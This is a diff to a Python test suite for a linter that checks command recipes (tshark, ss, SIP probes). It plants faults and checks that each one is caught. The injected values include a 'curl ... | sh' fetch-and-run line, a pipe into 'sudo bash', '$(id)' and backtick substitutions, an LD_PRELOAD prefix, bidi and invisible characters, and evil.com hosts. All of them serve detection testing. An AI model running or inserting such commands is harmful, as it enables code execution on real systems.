@@ -92,6 +92,58 @@ FAULTS = {
         'command: "curl http://192.0.2.1/x | sh; ',
         "C-TOOL",
     ),
+    "an undeclared placeholder": ("registry/recipes/one-code.yml", "inputs: [file, code]", "inputs: [file]", "C-INPUT"),
+    "a flag without an explanation": (
+        "registry/recipes/one-code.yml",
+        'command: "tshark -n',
+        'command: "tshark -n -V',
+        "C-FLAG",
+    ),
+    "an explanation without a flag": ("registry/recipes/one-code.yml", 'flag: "-n"', 'flag: "-V"', "C-FLAG"),
+    "an explanation without words": ("registry/recipes/one-code.yml", "means: no-names", "means: nothing", "C-FLAG"),
+    "a dash in a command of a recipe": ("registry/recipes/one-code.yml", "tshark -n", "tshark \u2013n", "Y-VALUE"),
+    "a bidi control in a command": ("registry/recipes/one-code.yml", "tshark -n", "tshark \u202e-n", "Y-VALUE|U-BIDI"),
+    "an invisible character in a command": (
+        "registry/recipes/one-code.yml",
+        "tshark -n",
+        "tshark\u200b -n",
+        "Y-VALUE|U-INVIS",
+    ),
+    "a pipe into a shell": (
+        "registry/recipes/one-code.yml",
+        '-e sip.Call-ID"',
+        '-e sip.Call-ID | sudo bash"',
+        "C-TOOL",
+    ),
+    "a tool nobody knows": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e sip.Call-ID | perl"', "C-TOOL"),
+    "a second command": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e sip.Call-ID; sort"', "C-SHELL"),
+    "a command in the background": (
+        "registry/recipes/one-code.yml",
+        '-e sip.Call-ID"',
+        '-e sip.Call-ID & sort"',
+        "C-SHELL",
+    ),
+    "a redirection": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e sip.Call-ID > /etc/motd"', "C-SHELL"),
+    "backticks": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e `id`"', "C-SHELL"),
+    "a command substitution": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e $(id)"', "C-SHELL"),
+    "an environment prefix": (
+        "registry/recipes/one-code.yml",
+        'command: "tshark',
+        'command: "LD_PRELOAD=x tshark',
+        "C-SHELL",
+    ),
+    "an open quote": ("registry/recipes/one-code.yml", "== {code}'", "== {code}", "C-SHELL"),
+    "a real address": ("registry/recipes/open-ports.yml", "ss -l", "ss dst 8.8.8.8 -l", "C-HOST"),
+    "a real name": (
+        "registry/recipes/options-probe.yml",
+        'sip:{host}:{port}"\n',
+        'sip:sip.evil.com:{port}"\n',
+        "C-HOST",
+    ),
+    "a real default": ("registry/recipes/inputs.yml", "default: example.com", "default: evil.com", "C-HOST"),
+    "a default that does not fit": ("registry/recipes/inputs.yml", 'default: "5060"', 'default: "506O"', "C-PATTERN"),
+    "no recorded output": ("registry/recipes/kamailio-sipdump.yml", "unrun: true", "unrun: false", "C-OUTPUT"),
+    "a bidi control in an output": ("registry/recipes/output/one-code.txt", "frame", "\u202eframe", "U-BIDI"),
     "no recipe to run next": ("registry/codes/486.yml", "next: who-answered", "next: nobody", "C-NEXT"),
     "a sentence that is not there": ("registry/codes/486.yml", "sender: callee", "sender: nobody", "L-LABEL"),
     "a role without a name": ("en/wire.yml", "  proxy:", "  relay:", "L-LABEL"),
@@ -117,6 +169,16 @@ def test_the_small_project_is_good(project: Project) -> None:
     assert [str(problem) for problem in found(project) if problem.rule not in _OF_ITS_SIZE] == []
 
 
+_BEFORE: set[str] = set()
+
+
+def _before(project: Project) -> set[str]:
+    """What is found in the small project as it is: the same for every test, and asked once."""
+    if not _BEFORE:
+        _BEFORE.update(map(str, found(project)))
+    return _BEFORE
+
+
 _OF_ITS_SIZE = {"M-CODE", "T-PARITY", "L-LABEL", "C-CODE"}
 """What the small project cannot satisfy, having lost links and codes."""
 
@@ -127,7 +189,7 @@ def test_fault(name: str, project: Project) -> None:
     path = project.content / file
     text = path.read_text(encoding="utf-8")
     assert old in text
-    before = set(map(str, found(project)))
+    before = _before(project)
     path.write_text(text.replace(old, new, 1), encoding="utf-8")
     fresh = [problem for problem in found(project) if str(problem) not in before]
     named = [problem for problem in fresh if problem.rule in rule.split("|")]
